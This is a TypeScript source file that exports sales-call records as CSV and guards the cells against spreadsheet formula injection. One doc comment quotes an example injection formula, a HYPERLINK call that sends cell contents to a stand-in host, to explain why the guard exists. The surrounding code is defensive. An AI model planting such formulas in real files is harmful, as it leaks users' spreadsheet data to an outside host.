/**
 * RFC 4180 CSV, safe to open in a spreadsheet whatever its list separator (docs/exports.md), and
 * the one-row-per-call export built on it.
 * Pure: no browser APIs, no clock.
 */
import {
  aiStatements,
  callName,
  cleanText,
  consentHistory,
  describeDismissal,
  describeStep,
  filledNextSteps,
  formatNextStep,
  formatOffset,
  hasAiContent,
  oneLine,
  sortedTags,
  statementReviewLabels,
  tagPhrase,
  toIso,
  type CallBundle,
} from './call-bundle';

export type CsvCell = string | number | boolean | null | undefined;

export interface CsvOptions {
  /**
   * Start the file with a UTF-8 byte order mark (U+FEFF). Default true: without it Excel reads
   * the file in the legacy code page and garbles accents, emoji, CJK and RTL text. Set false for
   * tools that treat the BOM as part of the first header name.
   */
  bom?: boolean;
}

export const CSV_BOM = '\uFEFF';
export const CSV_EOL = '\r\n';

/**
 * Characters that make a spreadsheet treat a cell as a formula (or, for tab and CR, let it slip
 * one past the check). A CSV opened in Excel, LibreOffice or Google Sheets evaluates a cell such
 * as `=HYPERLINK("https://evil.example/?"&A1)` or `@SUM(…)`: text a customer or a pasted AI
 * summary put in a note could then leak other cells or run commands (CSV/formula injection, see
 * OWASP "CSV Injection"). Text cells starting with one of these get a leading apostrophe, which
 * spreadsheets read as "this is text" and do not display. Numbers are written as numbers and
 * never prefixed, so -5 stays a number; the string "-5" becomes '-5 (text stays text).
 */
export const FORMULA_TRIGGERS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];

/**
 * True when the text starts with a formula trigger, also after leading whitespace (spaces, tabs,
 * line breaks): some import settings (LibreOffice's "trim spaces") strip it and would then see the
 * formula.
 */
export function needsFormulaGuard(text: string): boolean {
  const first = text.replace(/^[ \t\r\n]+/, '').charAt(0);
  const leading = text.charAt(0);
  return (first !== '' && FORMULA_TRIGGERS.includes(first)) || leading === '\t' || leading === '\r';
}

/**
 * The text as written to the file: a leading apostrophe when it would otherwise start a formula.
 * The guard exists only in the file; the stored text is never changed.
 */
export function guardFormula(text: string): string {
  return needsFormulaGuard(text) ? `'${text}` : text;
}

/**
 * One field as it appears in the file: formula-guarded (text only) and always quoted. Quoting
 * every field keeps a cell whole in spreadsheets whose list separator is not the comma (";" in the
 * German, French and Spanish defaults, or tab): an unquoted `ok;=1+2` would be split there into
 * a cell `=1+2`.
 */
export function csvField(value: CsvCell): string {
  let text: string;
  if (value === null || value === undefined) text = '';
  else if (typeof value === 'number') text = Number.isFinite(value) ? String(value) : '';
  else if (typeof value === 'boolean') text = value ? 'true' : 'false';
  else text = guardFormula(value);
  return `"${text.replace(/"/g, '""')}"`;
}

function csvRecord(cells: readonly CsvCell[]): string {
  return cells.map(csvField).join(',');
}

/**
 * The header and rows as RFC 4180 CSV: CRLF after every record (the last included), every field
 * quoted, quotes doubled, formula-looking text prefixed with an apostrophe, and a UTF-8 BOM unless
 * `{ bom: false }`. Every row must have as many cells as the header.
 */
export function toCsv(header: readonly string[], rows: readonly (readonly CsvCell[])[], options: CsvOptions = {}): string {
  rows.forEach((row, i) => {
    if (row.length !== header.length) throw new RangeError(`CSV row ${i + 1} has ${row.length} cells; the header has ${header.length}`);
  });
  const body = [header, ...rows].map((r) => csvRecord(r) + CSV_EOL).join('');
  return (options.bom ?? true ? CSV_BOM : '') + body;
}

// ---------------------------------------------------------------------------------------------
// Calls

export const CALLS_CSV_COLUMNS = [
  'call_id',
  'platform',
  'title',
  'account',
  'admitted_at',
  'ended_at',
  'end_reason',
  'consent_outcome',
  'not_recorded_reason',
  'consent_history',
  'tags',
  'checklist_status',
  'checklist_dismissal',
  'qualification',
  'next_steps',
  'timeline',
  'risks',
  'competition',
  'human_nuance',
  'power_dynamics',
  'hesitation',
  'emotion',
  'urgency',
  'subtle_objections',
  'rep_notes',
  'ai_draft_statements',
  'ai_marked_wrong_count',
  'source_of_narrative',
] as const;

export type CallsCsvColumn = (typeof CALLS_CSV_COLUMNS)[number];

export type CallsCsvOptions = CsvOptions;

/** Multi-value cells (tags, next steps, AI statements) join their items with this. */
export const CSV_LIST_SEPARATOR = '; ';

/** Marks every AI statement in the CSV, so AI text can never pass for the rep's. */
export const AI_PREFIX = '[AI]';

function callRow(bundle: CallBundle): Record<CallsCsvColumn, CsvCell> {
  const { call, checklist, note, aiDraft } = bundle;
  const f = checklist?.fields;
  const statements = aiStatements(aiDraft);
  return {
    call_id: call.id,
    platform: call.platform,
    title: callName(call),
    account: oneLine(call.account) || null,
    admitted_at: toIso(call.admittedAt),
    ended_at: toIso(call.endedAt),
    end_reason: call.endReason,
    consent_outcome: call.outcome ?? 'pending',
    not_recorded_reason: call.outcome === 'not-recorded' ? call.reason : undefined,
    consent_history: consentHistory(bundle).map((step) => `${toIso(step.at)} ${describeStep(step)}`).join(CSV_LIST_SEPARATOR),
    tags: sortedTags(bundle.tags)
      .map((t) => {
        const text = oneLine(t.text);
        const head = `${formatOffset(t.offsetMs)} ${tagPhrase(t.tag)}`;
        return text ? `${head}: ${text}` : head;
      })
      .join(CSV_LIST_SEPARATOR),
    checklist_status: checklist?.status ?? (call.checklistNotRequired ? 'not-required' : 'none'),
    checklist_dismissal: describeDismissal(checklist),
    qualification: cleanText(f?.qualification),
    next_steps: filledNextSteps(f?.nextSteps).map(formatNextStep).join(CSV_LIST_SEPARATOR),
    timeline: cleanText(f?.timeline),
    risks: cleanText(f?.risks),
    competition: cleanText(f?.competition),
    human_nuance: cleanText(f?.humanNuance),
    power_dynamics: cleanText(f?.powerDynamics),
    hesitation: cleanText(f?.hesitation),
    emotion: cleanText(f?.emotion),
    urgency: cleanText(f?.urgency),
    subtle_objections: cleanText(f?.subtleObjections),
    rep_notes: cleanText(note?.text),
    ai_draft_statements: statements.map((s) => `${AI_PREFIX} ${s.text} (${statementReviewLabels[s.review]})`).join(CSV_LIST_SEPARATOR),
    ai_marked_wrong_count: aiDraft ? statements.filter((s) => s.review === 'wrong').length : null,
    source_of_narrative: hasAiContent(bundle) ? 'rep + AI draft' : 'rep',
  };
}

/**
 * One row per call (in the order given), columns as in CALLS_CSV_COLUMNS. Times are ISO-8601
 * UTC; enums are their stored values; consent_outcome is "pending" without a decision (the final
 * decision; consent_history lists every decision, oldest first, each change with its kind) and
 * checklist_status "none" without a checklist ("not-required" when the policy asked for none).
 * Each AI statement is prefixed "[AI]" and carries the rep's mark; ai_marked_wrong_count is empty
 * when there is no AI draft. title is the call's name (the rep's, else the platform's meeting title).
 */
export function callsCsv(bundles: readonly CallBundle[], opts: CallsCsvOptions = {}): string {
  const rows = bundles.map((b) => {
    const row = callRow(b);
    return CALLS_CSV_COLUMNS.map((c) => row[c]);
  });
  return toCsv(CALLS_CSV_COLUMNS, rows, opts);
}
